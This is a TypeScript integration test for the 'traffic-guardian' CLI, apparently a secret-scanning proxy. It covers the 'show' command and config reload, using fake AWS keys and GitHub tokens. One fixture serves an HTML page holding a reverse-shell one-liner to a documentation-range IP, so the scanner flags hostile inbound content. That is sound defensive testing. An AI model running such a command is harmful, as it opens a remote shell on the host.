/**
 * `traffic-guardian show` and config reload, through the real compiled CLI
 * and a real `start` process proxying loopback traffic:
 *  - findings carry their exchange (method, redacted path, status, content
 *    type, size, connection and request ids); `show` prints one with the
 *    others of its exchange, as text and JSON, and explains unknown ids;
 *  - SIGHUP and `traffic-guardian reload` apply an edited config to new
 *    connections, reject an invalid one (naming the field) and keep the
 *    running configuration; `status` shows the reload counters.
 * Secrets are fake, made here, and appear in no output. No timing
 * assumption: every wait polls the guardian's status or findings.
 */
import { spawn } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { restartOnlyKeys } from '@clawsec/traffic-guardian/addon';

import { FindingSchema } from '../mcp-tools/contract.js';

import { cliSandbox, CLI_BIN } from './helpers/cli-sandbox.js';
import { proxiedRequest, waitFor } from './helpers/proxy-client.js';
import { fakeAwsAccessKeyId, fakeGithubToken, findLeaks } from './helpers/secrets.js';
import { startUpstream, type Upstream } from './helpers/upstream.js';

interface F {
  id: string;
  pattern: string;
  direction: string;
  location: string;
  method?: string;
  path?: string;
  status?: number;
  content_type?: string;
  connection_id?: string;
  request_id?: string;
  size_bytes?: number;
}

const sb = cliSandbox('tg-show-reload-');
const cfg = join(sb.tmp, 'config.json');
const secrets: string[] = [];
let upstream: Upstream;
let guardian: ReturnType<typeof spawn>;
const out = { stdout: '', stderr: '' };
let port = 0;

function writeConfig(extra: Record<string, unknown>): void {
  writeFileSync(cfg, JSON.stringify({ allow_private_destinations: ['127.0.0.1'], ...extra }), { mode: 0o600 });
}

function stored(): F[] {
  const r = sb.run(['findings', '--json', '--limit', '1000']);
  expect(r.code).toBe(0);
  return r.stdout
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as F);
}

function statusJson(): { running: boolean; status: { pid: number; reload: { applied: number; rejected: number; last?: { applied: boolean; issues: { field: string }[]; restart_needed: string[] } } } } {
  return JSON.parse(sb.run(['status', '--json']).stdout) as ReturnType<typeof statusJson>;
}

/**
 * Sends a request whose body carries a fresh AWS key (the behaviour under
 * test) and a GitHub token (always a finding: proof that the exchange was
 * scanned), then returns that exchange's stored findings.
 */
async function exchange(): Promise<{ aws: string; findings: F[] }> {
  const aws = fakeAwsAccessKeyId();
  const gh = fakeGithubToken();
  secrets.push(aws, gh);
  const res = await proxiedRequest({ host: '127.0.0.1', port }, upstream.url('/collect'), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ aws, note: `token ${gh}` }),
  });
  expect(res.status).toBe(200);
  const ghFinding = await waitFor(() => stored().find((f) => f.pattern === 'github_pat_classic' && f.path === '/collect' && f.request_id !== undefined && !seenRequests.has(f.request_id)), 15_000);
  const rid = ghFinding.request_id as string;
  seenRequests.add(rid);
  return { aws, findings: stored().filter((f) => f.request_id === rid) };
}
const seenRequests = new Set<string>();

beforeAll(async () => {
  upstream = await startUpstream();
  upstream.respondWith('/install', '<html><pre>bash -i >& /dev/tcp/203.0.113.9/9001 0>&1</pre></html>', 'text/html');
  writeConfig({});
  guardian = spawn(process.execPath, [CLI_BIN, 'start', '--config', cfg, '--listen', '127.0.0.1:0', '--json'], { env: sb.env(), stdio: ['ignore', 'pipe', 'pipe'] });
  guardian.stdout?.setEncoding('utf8').on('data', (d: string) => (out.stdout += d));
  guardian.stderr?.setEncoding('utf8').on('data', (d: string) => (out.stderr += d));
  const m = await waitFor(() => /"event":"started".*?"port":(\d+)/.exec(out.stdout), 20_000);
  port = Number(m[1]);
  await waitFor(() => statusJson().running, 15_000);
}, 60_000);

afterAll(async () => {
  if (guardian && guardian.exitCode === null) {
    const exited = new Promise((r) => guardian.on('exit', r));
    guardian.kill('SIGINT');
    await exited;
  }
  await upstream?.close();
  // No secret of the run in any output: CLI runs, the guardian's own output.
  const leaks = findLeaks([...sb.outputs, out.stdout, out.stderr].join('\n'), secrets);
  expect(leaks).toEqual([]);
}, 30_000);

describe('show', () => {
  it('prints a finding with its exchange context and the other findings of that exchange', async () => {
    const gh = fakeGithubToken();
    const [aws, urlAws] = [fakeAwsAccessKeyId(), fakeAwsAccessKeyId()];
    secrets.push(gh, aws, urlAws);
    const body = JSON.stringify({ aws });
    const res = await proxiedRequest({ host: '127.0.0.1', port }, upstream.url(`/upload/${gh}/x?k=${urlAws}`), {
      method: 'POST',
      headers: { 'content-type': 'application/json; charset=utf-8' },
      body,
    });
    expect(res.status).toBe(200);
    const page = await proxiedRequest({ host: '127.0.0.1', port }, upstream.url('/install'));
    expect(page.status).toBe(200);

    const all = await waitFor(() => {
      const fs = stored();
      return fs.some((f) => f.location.startsWith('body') && f.pattern === 'aws_access_key_id') && fs.some((f) => f.direction === 'inbound') && fs.some((f) => f.pattern === 'github_pat_classic') ? fs : undefined;
    }, 15_000);
    const inBody = all.find((f) => f.location.startsWith('body') && f.pattern === 'aws_access_key_id') as F;
    expect(inBody.method).toBe('POST');
    expect(inBody.path).toBe('/upload/[MASKED]/x');
    expect(inBody.content_type).toBe('application/json');
    expect(inBody.size_bytes).toBe(Buffer.byteLength(body));
    expect(inBody.status).toBeUndefined();
    expect(inBody.request_id).toMatch(/^[0-9a-f]{4}\.c\d+\.r1$/);
    expect(inBody.request_id?.startsWith(`${inBody.connection_id}.`)).toBe(true);
    const inbound = all.find((f) => f.direction === 'inbound') as F;
    expect([inbound.method, inbound.path, inbound.status, inbound.content_type]).toEqual(['GET', '/install', 200, 'text/html']);
    expect(inbound.connection_id).not.toBe(inBody.connection_id);
    const siblings = all.filter((f) => f.request_id === inBody.request_id && f.id !== inBody.id);
    expect(siblings.length).toBeGreaterThanOrEqual(2); // the token in the path, the key in the query

    const text = sb.run(['show', inBody.id], { COLUMNS: '80' });
    expect(text.code).toBe(0);
    expect(text.stdout).toMatch(/request\s+POST \/upload\/\[MASKED\]\/x/);
    expect(text.stdout).toMatch(/content type\s+application\/json/);
    expect(text.stdout).toMatch(new RegExp(`exchange\\s+${inBody.request_id?.replace(/\./g, '\\.')} \\(connection ${inBody.connection_id?.replace(/\./g, '\\.')}\\)`));
    expect(text.stdout).toContain(`Same exchange (${inBody.request_id}): ${siblings.length} more`);
    for (const s of siblings) expect(text.stdout).toContain(s.id.slice(0, 12));
    expect(text.stdout).not.toContain(inbound.id.slice(0, 12)); // another connection
    for (const line of text.stdout.split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80);

    // A unique prefix is enough; JSON has the finding and its exchange.
    const json = sb.run(['show', inBody.id.slice(0, 12), '--json']);
    expect(json.code).toBe(0);
    const j = JSON.parse(json.stdout) as { finding: F; same_exchange: F[]; same_connection: F[] };
    expect(j.finding.id).toBe(inBody.id);
    expect(j.finding.path).toBe('/upload/[MASKED]/x');
    expect(j.same_exchange.map((f) => f.id).sort()).toEqual(siblings.map((f) => f.id).sort());
    expect(j.same_exchange.every((f) => f.request_id === inBody.request_id)).toBe(true);
    expect(Array.isArray(j.same_connection)).toBe(true);

    // Unknown id: exit 1 with a did-you-mean; an ambiguous prefix is a usage error.
    const typo = `${inBody.id.slice(0, -1)}${inBody.id.endsWith('0') ? '1' : '0'}`;
    const unknown = sb.run(['show', typo]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toContain(`no finding with id "${typo}"`);
    expect(unknown.stderr).toContain(`did you mean ${inBody.id}`);
    const ambiguous = sb.run(['show', 'tgf_']);
    expect(ambiguous.code).toBe(2);
    expect(ambiguous.stderr).toMatch(/matches \d+ findings/);
    expect(sb.run(['show']).code).toBe(2);
    expect(sb.run(['show', '--help']).stdout).toContain('Usage: traffic-guardian show');
    // The MCP findings tool's schema keeps the context (and nothing else is added).
    const viaMcp = FindingSchema.parse(inBody);
    expect([viaMcp.method, viaMcp.path, viaMcp.content_type, viaMcp.request_id, viaMcp.connection_id, viaMcp.size_bytes]).toEqual([
      'POST',
      '/upload/[MASKED]/x',
      'application/json',
      inBody.request_id,
      inBody.connection_id,
      Buffer.byteLength(body),
    ]);
    // Nothing secret in the path field or anywhere in the stored findings.
    expect(findLeaks(JSON.stringify(all), secrets)).toEqual([]);
  }, 60_000);
});

describe('reload', () => {
  it('applies an edited config to new connections, rejects an invalid one and keeps the running config', async () => {
    // Before: an AWS key sent to 127.0.0.1 is a finding.
    const before = await exchange();
    expect(before.findings.some((f) => f.pattern === 'aws_access_key_id')).toBe(true);

    // Edit: the key is expected traffic to 127.0.0.1; dedup_window_secs needs a restart.
    writeConfig({ expected_destinations: { aws_access_key_id: ['127.0.0.1'] }, dedup_window_secs: 60 });
    const r = sb.run(['reload', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const rj = JSON.parse(r.stdout) as { applied: boolean; restart_needed: string[]; pid: number };
    expect(rj.applied).toBe(true);
    expect(rj.restart_needed).toEqual(['dedup_window_secs']);
    expect(rj.pid).toBe(guardian.pid);
    expect(statusJson().status.reload.applied).toBe(1);
    const after = await exchange();
    expect(after.findings.some((f) => f.pattern === 'aws_access_key_id')).toBe(false);
    expect(out.stdout).toMatch(/"event":"reload","applied":true/);

    // An invalid edit, by SIGHUP: rejected, the field named, the running config kept.
    writeConfig({ expected_destinations: { aws_access_key_id: ['127.0.0.1'] }, max_scan_bytes: 12 });
    guardian.kill('SIGHUP');
    const st = await waitFor(() => {
      const s = statusJson();
      return s.status.reload.rejected === 1 ? s : undefined;
    }, 15_000);
    expect(st.running).toBe(true);
    expect(st.status.reload.last?.applied).toBe(false);
    expect(st.status.reload.last?.issues.map((i) => i.field)).toContain('max_scan_bytes');
    await waitFor(() => out.stderr.includes('config max_scan_bytes') || out.stdout.includes('"event":"reload","applied":false'), 10_000);
    const kept = await exchange();
    expect(kept.findings.some((f) => f.pattern === 'aws_access_key_id')).toBe(false);
    expect(kept.findings.some((f) => f.pattern === 'github_pat_classic')).toBe(true);

    // The same through `reload`: exit 1 and the bad field on stderr.
    const bad = sb.run(['reload']);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('reload rejected');
    expect(bad.stderr).toContain('config max_scan_bytes');
    const text = sb.run(['status']);
    expect(text.stdout).toMatch(/reloads\s+1 applied, 2 rejected; last .* rejected: max_scan_bytes/);
    expect(text.stdout).toContain('the last config reload was rejected');

    // Back to a valid config: applied again, the AWS key is a finding again.
    writeConfig({});
    const good = sb.run(['reload']);
    expect(good.code, good.stderr).toBe(0);
    expect(good.stdout).toContain('● reloaded');
    const back = await exchange();
    expect(back.findings.some((f) => f.pattern === 'aws_access_key_id')).toBe(true);
  }, 120_000);

  it('lists in its help every key a reload cannot apply, from the addon', () => {
    const help = sb.run(['reload', '--help']).stdout;
    const listed = help.split('Needing a restart (reported, not applied):')[1]?.split('Every other key')[0] ?? '';
    const keys = listed.replace(/\s+/g, ' ').trim().replace(/\.$/, '').split(', ');
    expect(keys).toEqual(restartOnlyKeys());
    expect(keys).toContain('scan_priority');
    for (const line of listed.split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80);
  });

  it('says so when no `start` runs for the home', () => {
    const other = cliSandbox('tg-reload-none-');
    const r = other.run(['reload']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('no `traffic-guardian start` is running');
    expect(readFileSync(cfg, 'utf8')).toContain('allow_private_destinations');
  });
});
